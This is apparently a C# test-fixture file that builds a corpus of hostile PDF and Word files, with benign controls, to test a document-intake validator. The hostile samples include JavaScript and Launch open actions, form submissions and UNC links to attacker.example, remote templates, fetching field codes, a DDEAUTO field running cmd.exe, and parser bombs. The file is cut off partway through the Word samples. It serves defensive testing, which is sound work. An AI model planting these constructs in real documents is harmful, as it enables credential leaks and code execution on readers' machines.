using System.Globalization;
using System.IO.Compression;
using System.Text;
using DocumentFormat.OpenXml;
using DocumentFormat.OpenXml.Packaging;
using W = DocumentFormat.OpenXml.Wordprocessing;

namespace Proposals.Testing;

/// <summary>One generated document, what it is, and a phrase the refusal must contain (null: a benign control that must pass).</summary>
public sealed record GeneratedDocument(string Class, string FileName, byte[] Bytes, string? Refusal)
{
    public override string ToString() => Class;
}

/// <summary>
/// The hostile-document corpus, generated at test time: each class of file that acts when a reader or Word opens
/// it (the ones intake long refused, and the ones that used to slip through a blocklist: a catalog hidden by the
/// order of cross-reference sections, remote go-to and URI on open, Screen/Rendition and <c>/AF</c> streams
/// without a type, <c>altChunk</c> imports, fetching field codes, packages outside <c>/embeddings/</c>), with benign
/// controls built as real software builds them (PDFsharp, the Open XML SDK) that must pass. The fuzz targets
/// start from these bytes too.
/// </summary>
public static class HostileDocuments
{
    // ---- PDF ----------------------------------------------------------------------------------------

    /// <summary>A one-page PDF with a text content stream and a font, objects 1–5; extra objects are numbered from 6.</summary>
    public static byte[] Pdf(string catalogExtra = "", string pageExtra = "", params string[] extraObjects)
    {
        var pdf = new PdfWriter();
        var numbers = new List<int>();
        foreach (var (number, body) in BaseObjects(catalogExtra, pageExtra).Concat(extraObjects.Select((o, i) => (i + 6, o))))
        {
            pdf.WriteObject(number, body);
            numbers.Add(number);
        }

        var xref = pdf.XrefTable(numbers);
        pdf.Trailer($"/Size {numbers.Count + 1} /Root 1 0 R", xref);
        return pdf.ToArray();
    }

    private static IEnumerable<(int, string)> BaseObjects(string catalogExtra, string pageExtra)
    {
        const string Content = "BT /F1 14 Tf 72 760 Td (PHIEU DE XUAT NHIEM VU) Tj ET";
        yield return (1, $"<< /Type /Catalog /Pages 2 0 R {catalogExtra}>>");
        yield return (2, "<< /Type /Pages /Kids [3 0 R] /Count 1 >>");
        yield return (3, $"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> {pageExtra}>>");
        yield return (4, $"<< /Length {Content.Length} >>\nstream\n{Content}\nendstream");
        yield return (5, "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>");
    }

    /// <summary>A control: a PDF made by PDFsharp with text and an ordinary web link that runs only when clicked.</summary>
    public static byte[] PdfWithWebLink(string url = "https://cokhi-hp.vn/gioi-thieu")
    {
        using var document = new PdfSharp.Pdf.PdfDocument();
        var page = document.AddPage();
        using (var graphics = PdfSharp.Drawing.XGraphics.FromPdfPage(page))
        {
            graphics.DrawRectangle(PdfSharp.Drawing.XBrushes.LightGray, 72, 72, 300, 40);
        }

        page.AddWebLink(new PdfSharp.Pdf.PdfRectangle(new PdfSharp.Drawing.XRect(72, 72, 300, 40)), url);
        document.AddPage();
        using var stream = new MemoryStream();
        document.Save(stream);
        return stream.ToArray();
    }

    /// <summary>The same document written with a compressed cross-reference stream (PNG predictor) and an object stream, as Word's PDF export does.</summary>
    public static byte[] PdfWithObjectStreams(string catalogExtra = "", params string[] extraObjects)
    {
        var pdf = new PdfWriter();
        var all = BaseObjects(catalogExtra, "").Concat(extraObjects.Select((o, i) => (i + 6, o))).ToList();
        // The catalog and plain dictionaries go into object stream 20; the content stream stays outside (streams cannot be inside).
        var compressed = all.Where(o => !o.Item2.Contains("stream", StringComparison.Ordinal)).ToList();
        var plain = all.Except(compressed).ToList();
        var entries = new List<(int Number, int Type, long Field2, int Field3)>();
        foreach (var (number, body) in plain)
        {
            entries.Add((number, 1, pdf.WriteObject(number, body), 0));
        }

        entries.Add((20, 1, pdf.ObjectStream(20, compressed), 0));
        entries.AddRange(compressed.Select((o, i) => (o.Item1, 2, 20L, i)));
        pdf.XrefStream(21, entries, "/Root 1 0 R");
        return pdf.ToArray();
    }

    /// <summary>An ordinary incremental update (as a signing tool writes one): the catalog is rewritten later in the file and in the newest section.</summary>
    public static byte[] PdfWithIncrementalUpdate()
    {
        var original = Pdf();
        var pdf = new PdfWriter(original);
        var offset = pdf.WriteObject(1, "<< /Type /Catalog /Pages 2 0 R /PageLabels << /Nums [0 << /S /D >>] >> >>");
        var xref = pdf.XrefTable([1], [offset]);
        pdf.Trailer($"/Size 6 /Root 1 0 R /Prev {PdfWriter.StartXref(original)}", xref);
        return pdf.ToArray();
    }

    public static IEnumerable<GeneratedDocument> PdfControls() =>
    [
        new("pdf control: a PDFsharp file with a web link clicked by the reader", "link.pdf", PdfWithWebLink(), null),
        new("pdf control: a plain page with text", "plain.pdf", Pdf(), null),
        new("pdf control: an open action that goes to the first page, and bookmarks", "goto.pdf",
            Pdf("/OpenAction [3 0 R /Fit] /Outlines 6 0 R ", "", "<< /Type /Outlines /First 7 0 R /Last 7 0 R /Count 1 >>",
                "<< /Title (Trang 1) /Parent 6 0 R /A << /S /GoTo /D [3 0 R /Fit] >> >>"), null),
        new("pdf control: a cross-reference stream with a predictor and an object stream", "objstm.pdf", PdfWithObjectStreams(), null),
        new("pdf control: an incremental update of the catalog", "update.pdf", PdfWithIncrementalUpdate(), null),
    ];

    public static IEnumerable<GeneratedDocument> HostilePdfs()
    {
        const string Unc = @"(\\\\\\\\attacker.example\\\\share\\\\x.pdf)";
        // Already refused before the allowlist.
        yield return new("pdf: JavaScript on open", "js.pdf", Pdf("/OpenAction 6 0 R ", "", "<< /S /JavaScript /JS (app.alert\\(1\\)) >>"), "JavaScript");
        yield return new("pdf: a document-level script", "names-js.pdf",
            Pdf("/Names << /JavaScript << /Names [(init) 6 0 R] >> >> ", "", "<< /S /JavaScript /JS (this.print\\(\\)) >>"), "JavaScript");
        yield return new("pdf: Launch on open", "launch.pdf", Pdf("/OpenAction << /S /Launch /F (cmd.exe) >> "), "Launch");
        yield return new("pdf: script on page open", "page-aa.pdf", Pdf("", "/AA << /O << /S /JavaScript /JS (x) >> >> "), "JavaScript");
        yield return new("pdf: an embedded file", "attached.pdf", Pdf("/Names << /EmbeddedFiles << /Names [(hoa-don.exe) 6 0 R] >> >> ", "",
            "<< /Type /Filespec /F (hoa-don.exe) /EF << /F 7 0 R >> >>", "<< /Type /EmbeddedFile /Length 3 >>\nstream\nMZ!\nendstream"), "attached files");
        yield return new("pdf: rich media", "richmedia.pdf", Pdf("", "/Annots [6 0 R] ", "<< /Type /Annot /Subtype /RichMedia /Rect [0 0 10 10] >>"), "rich media");
        yield return new("pdf: an XFA form", "xfa.pdf", Pdf("/AcroForm << /Fields [] /XFA 6 0 R >> ", "", "<< /Length 0 >>\nstream\n\nendstream"), "XFA");
        yield return new("pdf: encrypted", "encrypted.pdf", SampleDocuments.EncryptedPdf(), "encrypted");

        // The classes a blocklist let through.
        yield return new("pdf: JavaScript open action hidden by the order of cross-reference sections", "hidden-by-xref.pdf", HiddenByXrefOrder(), "JavaScript");
        yield return new("pdf: GoToR to a UNC path on open", "gotor.pdf", Pdf($"/OpenAction << /S /GoToR /F {Unc} /D [0 /Fit] >> "), "GoToR");
        yield return new("pdf: GoToE to a UNC path on open", "gotoe.pdf",
            Pdf($"/OpenAction << /S /GoToE /F {Unc} /D [0 /Fit] /T << /R /C /N (x) >> >> "), "GoToE");
        yield return new("pdf: URI on open", "uri-open.pdf", Pdf("/OpenAction << /S /URI /URI (https://attacker.example/pixel) >> "), "(URI)");
        yield return new("pdf: SubmitForm on page open", "submit.pdf",
            Pdf("", "/AA << /O << /S /SubmitForm /F << /FS /URL /F (https://attacker.example/collect) >> >> >> "), "SubmitForm");
        yield return new("pdf: ImportData on open", "import.pdf", Pdf($"/OpenAction << /S /ImportData /F {Unc} >> "), "ImportData");
        yield return new("pdf: a Screen annotation playing an untyped embedded stream", "screen.pdf", Pdf("", "/Annots [6 0 R] ",
            "<< /Type /Annot /Subtype /Screen /Rect [0 0 100 100] /P 3 0 R /A 7 0 R >>",
            "<< /S /Rendition /OP 0 /AN 6 0 R /R 8 0 R >>",
            "<< /S /MR /C << /S /MCD /CT (video/mp4) /D << /Type /Filespec /F (clip.mp4) /EF << /F 9 0 R >> >> >> >>",
            "<< /Length 3 >>\nstream\nMZ!\nendstream"), "attached files");
        yield return new("pdf: an associated file without /Type /EmbeddedFile", "af.pdf", Pdf("/AF [6 0 R] ", "",
            "<< /Type /Filespec /F (data.xml) /AFRelationship /Data /EF << /F 7 0 R >> >>", "<< /Length 3 >>\nstream\nMZ!\nendstream"), "attached files");
        yield return new("pdf: a 3D annotation", "3d.pdf", Pdf("", "/Annots [6 0 R] ",
            "<< /Type /Annot /Subtype /3D /Rect [0 0 10 10] /3DD 7 0 R >>", "<< /Type /3D /Subtype /U3D /Length 3 >>\nstream\nxyz\nendstream"), "3D");
        yield return new("pdf: a link clicked to a network share", "unc-link.pdf", Pdf("", "/Annots [6 0 R] ",
            $"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /URI /URI (file://attacker.example/share/x) >> >>"), "network location");
        yield return new("pdf: a URI action shared by a link and the open action", "shared-uri.pdf", Pdf("/OpenAction 7 0 R ", "/Annots [6 0 R] ",
            "<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A 7 0 R >>", "<< /S /URI /URI (https://attacker.example/pixel) >>"), "(URI)");
        yield return new("pdf: a bookmark that launches a program", "outline-launch.pdf", Pdf("/Outlines 6 0 R ", "",
            "<< /Type /Outlines /First 7 0 R /Last 7 0 R /Count 1 >>", "<< /Title (x) /Parent 6 0 R /A << /S /Launch /F (calc.exe) >> >>"), "Launch");
        yield return new("pdf: a GoTo whose Next runs JavaScript", "next-js.pdf",
            Pdf("/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /JavaScript /JS (x) >> >> "), "JavaScript");
        yield return new("pdf: a form field that submits when it changes", "field-aa.pdf", Pdf("/AcroForm << /Fields [6 0 R] >> ", "/Annots [6 0 R] ",
            "<< /Type /Annot /Subtype /Widget /FT /Tx /T (x) /Rect [0 0 10 10] /P 3 0 R /AA << /K << /S /SubmitForm /F (https://attacker.example) >> >> >>"), "SubmitForm");
        yield return new("pdf: JavaScript catalog in an object stream", "objstm-js.pdf",
            PdfWithObjectStreams("/OpenAction 6 0 R ", "<< /S /JavaScript /JS (app.alert\\(1\\)) >>"), "JavaScript");
        yield return new("pdf: a hybrid file whose /XRefStm holds the script", "hybrid.pdf", Hybrid(), "JavaScript");
        yield return new("pdf: trailers that name different catalogs", "two-roots.pdf", TwoRoots(), "disagree");
        yield return new("pdf: a later copy of an action that the cross-reference chain does not use", "shadowed.pdf", Shadowed(), "disagree");

        // Bytes meant to hang, exhaust or crash a parser: refused, in bounded time and memory.
        yield return new("pdf: a /Prev chain that loops", "prev-loop.pdf", PrevLoop(), "damaged");
        yield return new("pdf: a page tree that contains itself", "page-cycle.pdf",
            Encoding.Latin1.GetBytes(Encoding.Latin1.GetString(Pdf()).Replace("/Kids [3 0 R]", "/Kids [2 0 R]", StringComparison.Ordinal)), "damaged");
        yield return new("pdf: arrays nested a hundred thousand deep", "deep.pdf",
            Pdf("/Deep " + new string('[', 100_000) + new string(']', 100_000) + " "), "damaged");
        yield return new("pdf: an object stream that inflates to gigabytes", "bomb.pdf", Bomb(), "damaged");
        yield return new("pdf: a stream whose /Length refers to itself", "length-cycle.pdf", Pdf("/Extra 6 0 R ", "", "<< /Length 6 0 R >>\nstream\nabc\nendstream"), null);
        yield return new("pdf: cut in the middle", "truncated.pdf", Pdf()[..300], "damaged");
        yield return new("pdf: only the magic bytes", "garbage.pdf", Encoding.ASCII.GetBytes("%PDF-1.7\n" + new string('x', 2_000) + "\n%%EOF\n"), "cannot be read");
    }

    private static byte[] HiddenByXrefOrder()
    {
        // The section startxref names (newest) lies before the older one in the file, and its catalog lies
        // before the harmless one: a parser that lets later file offsets win walks the harmless catalog,
        // while a reader following startxref walks the hostile one.
        var pdf = new PdfWriter();
        var hostile = pdf.WriteObject(1, "<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>");
        var script = pdf.WriteObject(6, "<< /S /JavaScript /JS (app.alert\\(1\\)) >>");
        var newestPosition = pdf.Length;
        // Placeholder for the /Prev offset, patched below with the same width.
        var tableText = $"xref\n1 1\n{hostile:D10} 00000 n \n6 1\n{script:D10} 00000 n \ntrailer\n<< /Size 7 /Root 1 0 R /Prev PREV______ >>\n";
        pdf.Raw(tableText);
        var offsets = BaseObjects("", "").Select(o => pdf.WriteObject(o.Item1, o.Item2)).ToList();
        var older = pdf.XrefTable([1, 2, 3, 4, 5], offsets);
        pdf.Raw($"trailer\n<< /Size 6 /Root 1 0 R >>\nstartxref\n{newestPosition}\n%%EOF\n");
        var bytes = pdf.ToArray();
        var text = Encoding.Latin1.GetString(bytes).Replace("PREV______", older.ToString("D10", CultureInfo.InvariantCulture), StringComparison.Ordinal);
        return Encoding.Latin1.GetBytes(text);
    }

    private static byte[] Hybrid()
    {
        var pdf = new PdfWriter();
        var offsets = BaseObjects("/OpenAction 6 0 R ", "").Select(o => pdf.WriteObject(o.Item1, o.Item2)).ToList();
        var objectStream = pdf.ObjectStream(7, [(6, "<< /S /JavaScript /JS (app.alert\\(1\\)) >>")]);
        var stm = pdf.XrefStream(8, [(6, 2, 7, 0), (7, 1, objectStream, 0)], "/Root 1 0 R", writeStartXref: false);
        var table = pdf.XrefTable([1, 2, 3, 4, 5], offsets);
        pdf.Trailer($"/Size 9 /Root 1 0 R /XRefStm {stm}", table);
        return pdf.ToArray();
    }

    private static byte[] TwoRoots()
    {
        var original = Pdf("", "", "<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (x) >> >>");
        var pdf = new PdfWriter(original);
        var xref = pdf.XrefTable([], []);
        pdf.Trailer($"/Size 7 /Root 6 0 R /Prev {PdfWriter.StartXref(original)}", xref);
        return pdf.ToArray();
    }

    private static byte[] Shadowed()
    {
        // The chain's object 6 is a GoTo; a copy of object 6 appended after the last section is a script.
        var bytes = Pdf("/OpenAction 6 0 R ", "", "<< /S /GoTo /D [3 0 R /Fit] >>");
        return [.. bytes, .. Encoding.Latin1.GetBytes("6 0 obj\n<< /S /JavaScript /JS (app.alert\\(1\\)) >>\nendobj\n")];
    }

    private static byte[] PrevLoop()
    {
        var original = Pdf();
        var text = Encoding.Latin1.GetString(original);
        var start = PdfWriter.StartXref(original);
        return Encoding.Latin1.GetBytes(text.Replace("/Root 1 0 R >>", $"/Root 1 0 R /Prev {start} >>", StringComparison.Ordinal));
    }

    private static byte[] Bomb()
    {
        var pdf = new PdfWriter();
        var offsets = BaseObjects("/OpenAction 6 0 R ", "").Select(o => pdf.WriteObject(o.Item1, o.Item2)).ToList();
        using var zeros = new MemoryStream();
        using (var z = new ZLibStream(zeros, CompressionLevel.SmallestSize, leaveOpen: true))
        {
            var block = new byte[1 << 20];
            for (var i = 0; i < 1024; i++)
            {
                z.Write(block);
            }
        }

        var objectStream = pdf.StreamObject(7, "/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", zeros.ToArray());
        var entries = offsets.Select((o, i) => (i + 1, 1, (long)o, 0)).Append((6, 2, 7L, 0)).Append((7, 1, objectStream, 0)).ToList();
        pdf.XrefStream(8, entries, "/Root 1 0 R");
        return pdf.ToArray();
    }

    /// <summary>Writes PDF objects and cross-reference sections, keeping each object's byte offset.</summary>
    public sealed class PdfWriter
    {
        private readonly List<byte> _buffer = [];

        public PdfWriter(byte[]? start = null)
        {
            if (start is null)
            {
                Raw("%PDF-1.7\n%\u00E2\u00E3\u00CF\u00D3\n");
            }
            else
            {
                _buffer.AddRange(start);
            }
        }

        public long Length => _buffer.Count;

        public void Raw(string text) => _buffer.AddRange(Encoding.Latin1.GetBytes(text));

        public long WriteObject(int number, string body)
        {
            var offset = (long)_buffer.Count;
            _objects[number] = offset;
            Raw($"{number} 0 obj\n{body}\nendobj\n");
            return offset;
        }

        public long StreamObject(int number, string dictionary, byte[] data)
        {
            var offset = (long)_buffer.Count;
            _objects[number] = offset;
            Raw($"{number} 0 obj\n<< {dictionary} /Length {data.Length} >>\nstream\n");
            _buffer.AddRange(data);
            Raw("\nendstream\nendobj\n");
            return offset;
        }

        /// <summary>An object stream holding <paramref name="members"/> (no streams among them), Flate-compressed.</summary>
        public long ObjectStream(int number, IReadOnlyList<(int Number, string Body)> members)
        {
            var header = new StringBuilder();
            var bodies = new StringBuilder();
            foreach (var (member, body) in members)
            {
                header.Append(CultureInfo.InvariantCulture, $"{member} {bodies.Length} ");
                bodies.Append(body).Append('\n');
            }

            var data = Encoding.Latin1.GetBytes(header.ToString() + bodies);
            return StreamObject(number, $"/Type /ObjStm /N {members.Count} /First {header.Length} /Filter /FlateDecode", Deflate(data));
        }

        public long XrefTable(IEnumerable<int> numbers, IReadOnlyList<long>? offsets = null)
        {
            var offset = (long)_buffer.Count;
            var list = numbers.ToList();
            var text = new StringBuilder("xref\n0 1\n0000000000 65535 f \n");
            for (var i = 0; i < list.Count; i++)
            {
                var at = offsets?[i] ?? _objects[list[i]];
                text.Append(CultureInfo.InvariantCulture, $"{list[i]} 1\n{at:D10} 00000 n \n");
            }

            Raw(text.ToString());
            return offset;
        }

        private readonly Dictionary<int, long> _objects = [];

        public void Trailer(string entries, long xref) => Raw($"trailer\n<< {entries} >>\nstartxref\n{xref}\n%%EOF\n");

        /// <summary>A cross-reference stream (W [1 4 2], PNG Up predictor), which is also the trailer.</summary>
        public long XrefStream(int number, IReadOnlyList<(int Number, int Type, long Field2, int Field3)> entries, string trailer, bool writeStartXref = true)
        {
            var offset = (long)_buffer.Count;
            var all = entries.Append((number, 1, offset, 0)).OrderBy(e => e.Item1).ToList();
            var index = new StringBuilder();
            var rows = new List<byte[]>();
            foreach (var e in all)
            {
                index.Append(CultureInfo.InvariantCulture, $"{e.Item1} 1 ");
                rows.Add([(byte)e.Item2, (byte)(e.Item3 >> 24), (byte)(e.Item3 >> 16), (byte)(e.Item3 >> 8), (byte)e.Item3, (byte)(e.Item4 >> 8), (byte)e.Item4]);
            }

            var predicted = new List<byte>();
            var previous = new byte[7];
            foreach (var row in rows)
            {
                predicted.Add(2);
                predicted.AddRange(row.Select((b, i) => (byte)(b - previous[i])));
                previous = row;
            }

            StreamObject(number, $"/Type /XRef /Size {all.Max(e => e.Item1) + 1} /Index [{index}] /W [1 4 2] {trailer} /Filter /FlateDecode /DecodeParms << /Columns 7 /Predictor 12 >>",
                Deflate([.. predicted]));
            if (writeStartXref)
            {
                Raw($"startxref\n{offset}\n%%EOF\n");
            }

            return offset;
        }

        public byte[] ToArray() => [.. _buffer];

        /// <summary>The offset a finished file's startxref names.</summary>
        public static long StartXref(byte[] pdf)
        {
            var text = Encoding.Latin1.GetString(pdf);
            var at = text.LastIndexOf("startxref", StringComparison.Ordinal) + "startxref".Length;
            return long.Parse(text[at..].Split('\n', StringSplitOptions.RemoveEmptyEntries)[0].Trim(), CultureInfo.InvariantCulture);
        }

        private static byte[] Deflate(byte[] data)
        {
            using var output = new MemoryStream();
            using (var z = new ZLibStream(output, CompressionLevel.Optimal, leaveOpen: true))
            {
                z.Write(data);
            }

            return output.ToArray();
        }
    }

    // ---- DOCX ---------------------------------------------------------------------------------------

    /// <summary>A 1×1 PNG and a 1×1 JPEG, byte for byte.</summary>
    public static readonly byte[] Png = Convert.FromBase64String("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==");

    public static readonly byte[] Jpeg = Convert.FromBase64String(
        "/9j/4AAQSkZJRgABAQEASABIAAD/2wBDAP//////////////////////////////////////////////////////////////////////////////////////wgALCAABAAEBAREA/8QAFBABAAAAAAAAAAAAAAAAAAAAAP/aAAgBAQABPxA=");

    /// <summary>
    /// The control: a Word file as the Open XML SDK writes one, with styles, settings, a header and a footer with a
    /// page-number field, a web hyperlink, two pictures (PNG and JPEG) and a table. It must pass.
    /// </summary>
    public static byte[] DocxWithHyperlinkPicturesAndTable()
    {
        using var buffer = new MemoryStream();
        using (var document = WordprocessingDocument.Create(buffer, WordprocessingDocumentType.Document))
        {
            document.PackageProperties.Title = "Phiếu đề xuất";
            document.PackageProperties.Creator = "Công ty Cơ khí Hải Phòng";
            var main = document.AddMainDocumentPart();
            main.AddNewPart<StyleDefinitionsPart>().Styles = new W.Styles(new W.Style(new W.StyleName { Val = "Normal" }) { Type = W.StyleValues.Paragraph, StyleId = "Normal", Default = true });
            main.AddNewPart<DocumentSettingsPart>().Settings = new W.Settings(new W.Zoom { Percent = "100" });
            var header = main.AddNewPart<HeaderPart>();
            header.Header = new W.Header(new W.Paragraph(new W.Run(new W.Text("CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM"))));
            var footer = main.AddNewPart<FooterPart>();
            footer.Footer = new W.Footer(new W.Paragraph(new W.SimpleField(new W.Run(new W.Text("1"))) { Instruction = " PAGE \\* MERGEFORMAT " }));
            var link = main.AddHyperlinkRelationship(new Uri("https://cokhi-hp.vn/"), isExternal: true);
            var png = main.AddImagePart(ImagePartType.Png);
            png.FeedData(new MemoryStream(Png));
            var jpeg = main.AddImagePart(ImagePartType.Jpeg);
            jpeg.FeedData(new MemoryStream(Jpeg));
            var table = new W.Table(
                new W.TableProperties(new W.TableBorders(new W.TopBorder { Val = W.BorderValues.Single, Size = 4 })),
                new W.TableRow(Cell("STT"), Cell("Nội dung"), Cell("Kinh phí (triệu đồng)")),
                new W.TableRow(Cell("1"), Cell("Khảo sát dây chuyền"), Cell("120")));
            main.Document = new W.Document(new W.Body(
                new W.Paragraph(new W.Run(new W.Text("PHIẾU ĐỀ XUẤT NHIỆM VỤ KH&CN"))),
                new W.Paragraph(new W.Hyperlink(new W.Run(new W.Text("cokhi-hp.vn"))) { Id = link.Id }),
                new W.Paragraph(new W.Run(Picture(main.GetIdOfPart(png), 1)), new W.Run(Picture(main.GetIdOfPart(jpeg), 2))),
                table,
                new W.SectionProperties(
                    new W.HeaderReference { Type = W.HeaderFooterValues.Default, Id = main.GetIdOfPart(header) },
                    new W.FooterReference { Type = W.HeaderFooterValues.Default, Id = main.GetIdOfPart(footer) })));
        }

        return buffer.ToArray();

        static W.TableCell Cell(string text) => new(new W.Paragraph(new W.Run(new W.Text(text))));
    }

    private static W.Drawing Picture(string relationshipId, uint id)
    {
        const long Size = 360000;
        return new W.Drawing(new DocumentFormat.OpenXml.Drawing.Wordprocessing.Inline(
            new DocumentFormat.OpenXml.Drawing.Wordprocessing.Extent { Cx = Size, Cy = Size },
            new DocumentFormat.OpenXml.Drawing.Wordprocessing.DocProperties { Id = id, Name = $"Picture {id}" },
            new DocumentFormat.OpenXml.Drawing.Graphic(new DocumentFormat.OpenXml.Drawing.GraphicData(
                new DocumentFormat.OpenXml.Drawing.Pictures.Picture(
                    new DocumentFormat.OpenXml.Drawing.Pictures.NonVisualPictureProperties(
                        new DocumentFormat.OpenXml.Drawing.Pictures.NonVisualDrawingProperties { Id = id, Name = $"image{id}" },
                        new DocumentFormat.OpenXml.Drawing.Pictures.NonVisualPictureDrawingProperties()),
                    new DocumentFormat.OpenXml.Drawing.Pictures.BlipFill(
                        new DocumentFormat.OpenXml.Drawing.Blip { Embed = relationshipId },
                        new DocumentFormat.OpenXml.Drawing.Stretch(new DocumentFormat.OpenXml.Drawing.FillRectangle())),
                    new DocumentFormat.OpenXml.Drawing.Pictures.ShapeProperties(
                        new DocumentFormat.OpenXml.Drawing.Transform2D(
                            new DocumentFormat.OpenXml.Drawing.Offset { X = 0, Y = 0 },
                            new DocumentFormat.OpenXml.Drawing.Extents { Cx = Size, Cy = Size }),
                        new DocumentFormat.OpenXml.Drawing.PresetGeometry { Preset = DocumentFormat.OpenXml.Drawing.ShapeTypeValues.Rectangle })))
            { Uri = "http://schemas.openxmlformats.org/drawingml/2006/picture" })));
    }

    public static IEnumerable<GeneratedDocument> DocxControls() =>
    [
        new("docx control: hyperlink, two pictures, a table, header and footer with a page field", "control.docx", DocxWithHyperlinkPicturesAndTable(), null),
        new("docx control: the minimal sample", "minimal.docx", SampleDocuments.Docx(), null),
        new("docx control: the call's own template", "a1.docx", A1Form.Template(), null),
        new("docx control: a mail hyperlink and an in-document field (REF)", "ref.docx",
            Change(DocxWithHyperlinkPicturesAndTable(), body: "<w:p><w:fldSimple w:instr=\" REF _Toc1 \\h \"/></w:p>",
                relationships: Relationship("rId90", "hyperlink", "mailto:binh.tran@cokhi-hp.vn", external: true)), null),
    ];

    private const string Ns = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/";

    private const string AltChunk = "<w:altChunk xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\" r:id=\"rId92\"/>";

    public static IEnumerable<GeneratedDocument> HostileDocxs()
    {
        var control = DocxWithHyperlinkPicturesAndTable();

        // Already refused before the allowlist.
        yield return new("docx: macros", "macros.docx", Change(control, parts: [("word/vbaProject.bin", Encoding.ASCII.GetBytes("macro"))],
            types: Override("/word/vbaProject.bin", "application/vnd.ms-office.vbaProject"), relationships: Relationship("rId91", "vbaProject", "vbaProject.bin")), "macros");
        yield return new("docx: a .docm renamed .docx", "docm.docx", SampleDocuments.DocxWithContentType("application/vnd.ms-word.document.macroEnabled.main+xml"), "macros");
        yield return new("docx: an ActiveX control", "activex.docx", Change(control,
            parts: [("word/activeX/activeX1.xml", Encoding.UTF8.GetBytes("<ax:ocx xmlns:ax=\"http://schemas.microsoft.com/office/2006/activeX\"/>"))],
            types: Override("/word/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml"), relationships: Relationship("rId91", "control", "activeX/activeX1.xml")), "ActiveX");
        yield return new("docx: an OLE object in /embeddings/", "ole.docx", Change(control, parts: [("word/embeddings/oleObject1.bin", Ole())],
            types: Override("/word/embeddings/oleObject1.bin", "application/vnd.openxmlformats-officedocument.oleObject"), relationships: Relationship("rId91", "oleObject", "embeddings/oleObject1.bin")), "embedded (OLE)");
        yield return new("docx: a remote template", "template.docx", SampleDocuments.DocxWithExternalRelationship("attachedTemplate", "https://attacker.example/t.dotm"), "remote template");
        yield return new("docx: a linked picture", "linked-image.docx", SampleDocuments.DocxWithExternalRelationship("image", "http://attacker.example/pixel.png"), "linked picture");
        yield return new("docx: a hyperlink to a file share", "file-link.docx", SampleDocuments.DocxWithExternalRelationship("hyperlink", "file://attacker.example/share/x"), "network share");
        yield return new("docx: a UNC hyperlink", "unc-link.docx", SampleDocuments.DocxWithExternalRelationship("hyperlink", "\\\\attacker.example\\share"), "network share");

        // The classes a blocklist let through.
        yield return new("docx: altChunk RTF carrying an OLE Package", "altchunk-rtf.docx", Change(control,
            parts: [("word/afchunk1.rtf", Encoding.ASCII.GetBytes(@"{\rtf1{\object\objemb{\*\objclass Package}{\*\objdata 0105000002000000080000005061636b61676500}}}"))],
            types: Override("/word/afchunk1.rtf", "application/rtf"), relationships: Relationship("rId92", "aFChunk", "afchunk1.rtf"),
            body: AltChunk), "altChunk");
        yield return new("docx: altChunk HTML with file:// and UNC pictures", "altchunk-html.docx", Change(control,
            parts: [("word/afchunk2.htm", Encoding.UTF8.GetBytes("<html><body><img src=\"file://attacker.example/share/p.png\"><img src=\"\\\\attacker.example\\share\\q.png\"></body></html>"))],
            types: Override("/word/afchunk2.htm", "text/html"), relationships: Relationship("rId92", "aFChunk", "afchunk2.htm"),
            body: AltChunk), "altChunk");
        yield return new("docx: INCLUDEPICTURE from a network share, split over runs", "includepicture.docx", Change(control,
            body: Complex("INCLUDE", "PICTURE  \"\\\\\\\\attacker.example\\\\share\\\\logo.png\" \\d")), "INCLUDEPICTURE");
        yield return new("docx: includepicture in lower case inside a nested field", "includepicture-nested.docx", Change(control,
            body: "<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText>includepicture \"</w:instrText></w:r>" +
                "<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText>QUOTE x</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r>" +
                "<w:r><w:instrText>\" \\d</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>"), "INCLUDEPICTURE");
        yield return new("docx: INCLUDETEXT over HTTP", "includetext.docx", Change(control,
            body: "<w:p><w:fldSimple w:instr=\" INCLUDETEXT &quot;http://attacker.example/x.docx&quot; \"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>"), "INCLUDETEXT");
        yield return new("docx: DDEAUTO in a header", "ddeauto.docx", Change(control,
            header: Complex("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc.exe\"")), "DDEAUTO");
        yield return new("docx: LINK to a workbook", "link-field.docx", Change(control, body: Complex("LINK Excel.Sheet.12 \"\\\\\\\\attacker.example\\\\s\\\\b.xlsx\" \"Sheet1!R1C1\" \\a")), "LINK");
        yield return new("docx: IMPORT of a remote picture", "import-field.docx", Change(control, body: Complex("IMPORT \"http://attacker.example/p.wmf\"")), "IMPORT");
        yield return new("docx: a workbook package outside /embeddings/", "workbook.docx", Change(control, parts: [("word/media/sheet1.xlsx", Workbook())],
            types: Override("/word/media/sheet1.xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
            relationships: Relationship("rId93", "package", "media/sheet1.xlsx")), "embedded (OLE)");
        yield return new("docx: a workbook package named as a picture", "workbook-as-png.docx", Change(control, parts: [("word/media/image9.png", Workbook())],
            relationships: Relationship("rId93", "image", "media/image9.png")), "embedded (OLE)");
        yield return new("docx: OLE data named as a picture", "ole-as-jpeg.docx", Change(control, parts: [("word/media/image8.jpeg", Ole())]), "embedded (OLE)");
        yield return new("docx: a part no plain document has", "unknown-part.docx", Change(control, parts: [("word/custom/payload.bin", [1, 2, 3, 4])],
            types: Override("/word/custom/payload.bin", "application/octet-stream")), "a part a plain Word document does not have");
